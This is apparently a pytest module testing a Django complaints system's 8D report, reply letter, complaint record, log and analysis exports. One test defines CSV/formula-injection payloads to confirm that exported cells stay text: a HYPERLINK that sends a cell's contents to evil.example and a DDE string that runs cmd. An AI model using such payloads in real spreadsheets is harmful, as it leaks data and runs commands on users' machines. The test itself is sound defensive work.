"""The complaints' sheets and documents: the 8D report and the reply letter in the customer's language, the
complaint record (顾客投诉记录表) and the complaint log in Excel and PDF — user text stays text — and the
analysis as a PDF with its charts."""

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from complaints.models import ComplaintCost
from nhcs.customers.models import Customer
from nhcs.sheets.models import FormSetting
from tests.sheets.conftest import pdf_text

from .conftest import INVESTIGATION, carry_out, raise_action, to_state

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


def _content(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells(data: bytes) -> dict:
    ws = load_workbook(io.BytesIO(data)).active
    return {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}


def _no_formula(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return re.search(rb"<f[\s>/]", z.read("xl/worksheets/sheet1.xml")) is None


def _flat(text: str) -> str:
    return re.sub(r"\s+", "", text)


def test_the_8d_report_carries_the_root_cause_and_the_actions(demo, client_for, register):
    complaint = to_state(demo, register(category="quality"), "investigating")
    corrective = raise_action(demo, complaint, title="冲压模刃口修磨")
    preventive = raise_action(demo, complaint, kind="preventive", owner="PLAN", title="模具按冲次保养")
    carry_out(demo, corrective)
    carry_out(demo, preventive)
    complaint = to_state(demo, complaint, "closed", actions=0)
    text = _flat(pdf_text(_content(client_for(demo["sales"]).get(f"/complaints/{complaint.pk}/8d.pdf"))))
    for expected in (
        INVESTIGATION["root_cause"],
        INVESTIGATION["why_1"],
        INVESTIGATION["why_3"],
        corrective.number,
        "冲压模刃口修磨",
        preventive.number,
        "模具按冲次保养",
        "库存全检",  # the containment
        complaint.number,
        "D1",
        "D8",
        "8D报告",
    ):
        assert _flat(expected) in text, expected
    # The customer reads Chinese: so does their report.
    assert "根本原因" in text and "Rootcause" not in text


def test_the_8d_report_and_the_reply_letter_go_in_the_customers_language(demo, client_for, register):
    bosch = Customer.objects.get(code="C003")
    assert bosch.language == "en"
    complaint = to_state(demo, register(customer=bosch, category="quality", report_8d_requested=True), "reply")
    sales = client_for(demo["sales"])
    report = _flat(pdf_text(_content(sales.get(f"/complaints/{complaint.pk}/8d.pdf"))))
    assert "Rootcause" in report and "Team" in report and INVESTIGATION["root_cause"] in report
    letter = _flat(pdf_text(_content(sales.get(f"/complaints/{complaint.pk}/reply-letter.pdf"))))
    assert "Yourcomplaintof" in letter and complaint.number in letter and "BoschAutomotive" in letter
    assert "Weapologise" in letter and "措施已完成" in letter  # the verification report, as written
    assert "Replytoacustomercomplaint" in letter  # the letterhead's title


def test_the_complaint_record_prints_its_data_actions_costs_and_signatures(demo, client_for, register):
    complaint = to_state(demo, register(category="quality", description="端子毛刺"), "closed")
    ComplaintCost.objects.create(complaint=complaint, kind="freight", amount=300, entered_by=demo["sales"])
    sales = client_for(demo["sales"])
    url = reverse("complaints:complaint_sheet", kwargs={"pk": complaint.pk, "fmt": "pdf"})
    text = _flat(pdf_text(_content(sales.get(url))))
    form = FormSetting.objects.get(key="complaint_record")
    assert (form.title_zh, form.document_number) == ("顾客投诉记录表", "NH-QP14-04")
    for expected in (
        "顾客投诉记录表",
        "NH-QP14-04",
        complaint.number,
        "端子毛刺",
        INVESTIGATION["root_cause"],
        "300.00",
    ):
        assert _flat(expected) in text, expected
    for who in ("qa_head", "rd", "qa", "sales"):
        assert demo[who].signature_name in text, who
    data = _content(sales.get(reverse("complaints:complaint_sheet", kwargs={"pk": complaint.pk, "fmt": "xlsx"})))
    cells = _cells(data)
    assert "端子毛刺" in cells and INVESTIGATION["root_cause"] in cells and complaint.number in str(list(cells))
    assert demo["qa_head"].signature_name in str(list(cells))


@pytest.mark.parametrize("engine", ["stream", "openpyxl"])
def test_formula_like_text_stays_text_in_every_complaint_workbook(demo, client_for, register, settings, engine):
    settings.NHCS_XLSX_LIST_ENGINE = engine
    complaint = register(description=FORMULA, rma_number="=1+1", call_notes=DDE)
    complaint = to_state(demo, complaint, "investigating")
    raise_action(demo, complaint, title="+SUM(A1:A9)")
    sales = client_for(demo["sales"])
    exports = {
        "record": (reverse("complaints:complaint_sheet", kwargs={"pk": complaint.pk, "fmt": "xlsx"}), [FORMULA, DDE]),
        "log": (reverse("complaints:complaint_log_export", args=["xlsx"]), [FORMULA]),
    }
    for name, (url, texts) in exports.items():
        data = _content(sales.get(url))
        cells = _cells(data)
        for text in texts:
            assert text in cells, (name, text)
            assert cells[text].data_type == "s", (name, text)
        assert _no_formula(data), name
    record = _cells(_content(sales.get(exports["record"][0])))
    assert "+SUM(A1:A9)" in record and record["+SUM(A1:A9)"].data_type == "s"


def test_the_complaint_log_is_the_list_as_filtered(demo, client_for, register):
    quality = register(category="quality", description="质量问题")
    delivery = register(category="delivery", description="交期延误")
    sales = client_for(demo["sales"])
    data = _content(sales.get(reverse("complaints:complaint_log_export", args=["xlsx"]) + "?category=delivery"))
    cells = _cells(data)
    assert delivery.number in cells and quality.number not in cells
    assert "顾客投诉一览表" in cells and any("NH-QP14-19" in str(v) for v in cells)
    text = _flat(pdf_text(_content(sales.get(reverse("complaints:complaint_log_export", args=["pdf"])))))
    assert quality.number in text and delivery.number in text
    refused = sales.get(reverse("complaints:complaint_log_export", args=["xlsx"]) + "?state=nonsense")
    assert refused.status_code == 400
    assert (
        client_for(demo["warehouse"]).get(reverse("complaints:complaint_log_export", args=["xlsx"])).status_code == 200
    )
    outsider_cells = _cells(
        _content(client_for(demo["warehouse"]).get(reverse("complaints:complaint_log_export", args=["xlsx"])))
    )
    assert quality.number not in outsider_cells  # the warehouse reads none of them


def test_the_analysis_pdf_draws_its_charts(demo, client_for, register):
    from complaints.models import DefectType

    register(defect=DefectType.objects.get(code="D02"))
    register(defect=DefectType.objects.get(code="D02"), customer=Customer.objects.get(code="C002"))
    register(defect=DefectType.objects.get(code="D09"), category="delivery")
    response = client_for(demo["qa_head"]).get("/complaints/analysis.pdf?category=quality")
    data = _content(response)
    text = _flat(pdf_text(data))
    assert "顾客投诉统计分析表" in text and "NH-QP14-22" in text
    assert "D02" in text and "D09" not in text  # the filter applies
    assert "100%" in text  # the Pareto's cumulative axis
    # Filters that are not valid: back to the page, which says why.
    bad = client_for(demo["qa_head"]).get("/complaints/analysis.pdf?state=nonsense")
    assert bad.status_code == 302 and bad["Location"].startswith("/complaints/analysis/")
    assert client_for(demo["qa_head"]).get(bad["Location"]).status_code == 400


def test_the_sheets_have_their_letterheads(demo):
    numbers = dict(FormSetting.objects.filter(key__startswith="complaint").values_list("key", "document_number"))
    assert numbers == {
        "complaint_record": "NH-QP14-04",
        "complaint_log": "NH-QP14-19",
        "complaint_8d": "NH-QP14-20",
        "complaint_reply_letter": "NH-QP14-21",
        "complaint_analysis": "NH-QP14-22",
    }
